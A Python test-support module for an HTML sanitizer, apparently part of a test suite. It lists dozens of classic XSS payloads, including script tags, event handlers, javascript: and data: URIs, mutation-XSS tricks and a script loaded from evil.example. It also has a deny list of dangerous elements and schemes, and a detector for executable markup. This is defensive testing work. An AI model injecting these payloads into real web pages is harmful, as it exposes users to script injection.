"""Hostile HTML: our own payloads, the shared XSS corpus, and what in markup could run."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import html5lib

from support.pages import walk
from support.paths import shared_files

# -- hostile HTML ----------------------------------------------------------------------------

# Classic vectors, written out here so the behaviour is tested without ../shared.
OWN_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" \x01javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/\\evil.example/\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\"><script>alert(1)</script>",
    "javascript:alert(1)",
    "<a href=\"https://ok.example/\" onmouseover=\"alert(1)\">x</a>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]

_FORBIDDEN_ELEMENTS = {"script", "style", "iframe", "object", "embed", "svg", "math", "form",
                       "base", "meta", "link", "frame", "frameset", "applet", "template"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "style", "data",
                   "srcdoc", "background", "poster", "cite"}
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
_BAD_CHARS = re.compile("[\x00-\x20\x7f-\x9f]")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def _local(name: str) -> str:
    """``{namespace}tag`` or ``{namespace}attr`` -> the bare name."""
    return name.rsplit("}", 1)[-1].lower()


def executable_constructs(markup: str) -> list[str]:
    """Everything in ``markup`` that a browser could run or that loads code or frames."""
    document = html5lib.parse(f"<!DOCTYPE html><html><head><title>t</title></head><body>{markup}",
                              treebuilder="etree", namespaceHTMLElements=False)
    found = []
    for element in walk(document):
        if not isinstance(element.tag, str):
            continue  # comments
        tag = _local(element.tag)
        if tag in _FORBIDDEN_ELEMENTS or element.tag.startswith("{"):
            found.append(f"element <{tag}>")
        for raw_name, value in element.attrib.items():
            name = _local(raw_name if isinstance(raw_name, str) else raw_name[1])
            if name.startswith("on"):
                found.append(f"event handler {name}= on <{tag}>")
            if name in _URL_ATTRIBUTES or raw_name == "{http://www.w3.org/1999/xlink}href":
                squashed = _BAD_CHARS.sub("", value).lower()
                if (squashed.startswith(_BAD_SCHEMES) if name != "style"
                        else any(s in squashed for s in (*_BAD_SCHEMES, "expression("))):
                    found.append(f"{name}={value!r} on <{tag}>")
    if _CONTROL.search(markup):
        found.append("control character")
    return found



def corpus_payloads(path: Path) -> list[str]:
    """The payloads of one corpus file, in the formats SOURCES.md describes."""
    text = path.read_text(encoding="utf-8", errors="surrogateescape")
    if path.suffix == ".txt":
        return [line for line in text.splitlines() if line.strip()]
    if path.suffix == ".json":
        data = json.loads(text)
        return [item["input"] if isinstance(item, dict) else str(item) for item in data]
    if path.suffix == ".md":
        return [text, *re.findall(r"```[^\n]*\n(.*?)```", text, flags=re.DOTALL)]
    return [text]


def xss_corpus_files() -> list[Any]:
    """Parameters: the payload files of ../shared/corpora/xss (one skipped parameter when it is absent)."""
    return [p for p in shared_files("corpora/xss") if p.values[0].suffix in {".txt", ".json", ".md", ".svg"}
            or not p.values[0].exists()]

